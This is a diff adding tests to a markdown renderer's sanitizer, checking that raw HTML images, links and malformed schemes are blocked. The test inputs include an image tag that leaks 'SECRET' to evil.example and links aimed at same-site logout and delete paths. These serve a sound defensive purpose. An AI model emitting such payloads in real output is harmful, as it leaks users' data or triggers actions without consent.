@@ -215,6 +215,55 @@ describe('policy', () => {
 		expect(out).not.toMatch(/<form|<u>|name=/);
 	});
 
+	test("HTML links and images follow renderMarkdown's links/images, not the sanitizer's defaults", () => {
+		const html = createHtmlSanitizer({ allowedTags: ['a', 'img'] });
+		const leak = '<img src="https://evil.example/p.png?q=SECRET" alt="x">';
+		const cdn = { images: { origins: ['https://cdn.example.com'] }, html };
+		expect(renderMarkdown(leak, cdn)).not.toContain('evil.example');
+		expect(renderMarkdown('<img src="https://cdn.example.com/ok.png" alt="ok">', cdn)).toContain(
+			'src="https://cdn.example.com/ok.png"'
+		);
+		expect(renderMarkdown(leak, { images: false, html })).not.toContain('src=');
+		expect(
+			renderMarkdown('<a href="https://evil.example">win</a>', { links: false, html })
+		).not.toContain('href=');
+		// A looser renderer policy is not undone by the sanitizer's own default either.
+		expect(
+			renderMarkdown('[f](ftp://files.example/a)', { links: { protocols: ['ftp:'] }, html })
+		).toContain('href="ftp://files.example/a"');
+	});
+
+	test('allowedTags is the whole list of tags the model may write, markdown tags included', () => {
+		const html = createHtmlSanitizer({ allowedTags: ['kbd'] });
+		const out = renderMarkdown(
+			'Press <kbd>Esc</kbd> <img src="https://evil.example/p.png"> <a href="https://evil.example">win</a> ' +
+				'<input type=checkbox checked>\n\n<table><tr><td>cell</td></tr></table>\n\n' +
+				'![ok](https://img.example/ok.png) [docs](https://docs.example)',
+			{ html }
+		);
+		expect(out).toContain('<kbd>Esc</kbd>');
+		expect(out).not.toContain('evil.example');
+		expect(out).not.toMatch(/<table|<td|<input/);
+		expect(out).toContain('win');
+		expect(out).toContain('cell');
+		// Markdown's own images and links are unaffected.
+		expect(out).toContain('<img src="https://img.example/ok.png" alt="ok">');
+		expect(out).toContain('href="https://docs.example"');
+	});
+
+	test('a special scheme without // (https:/x, https:host/x) is refused: a browser may read it as this site', () => {
+		expect(renderMarkdown('![x](https:/api/logout)')).toBe('<p>x</p>\n');
+		expect(renderMarkdown('[x](https:/settings/delete)', { links: { relative: false } })).toBe(
+			'<p>x</p>\n'
+		);
+		expect(renderMarkdown('[x](http:example.com)')).toBe('<p>x</p>\n');
+		const cdn = { images: { origins: ['https://cdn.example.com'] } };
+		expect(renderMarkdown('![x](https:cdn.example.com/../../api/x)', cdn)).toBe('<p>x</p>\n');
+		expect(renderMarkdown('![x](https://cdn.example.com/a.png)', cdn)).toContain('<img');
+		const html = createHtmlSanitizer({ allowedTags: ['img'] });
+		expect(renderMarkdown('<img src="https:/api/logout">', { html })).not.toContain('src=');
+	});
+
 	test('bad options fail with a message that names the fix', () => {
 		expect(() => renderMarkdown('x', { links: { protocols: ['http://'] } })).toThrow(
 			/write it like 'https:'/
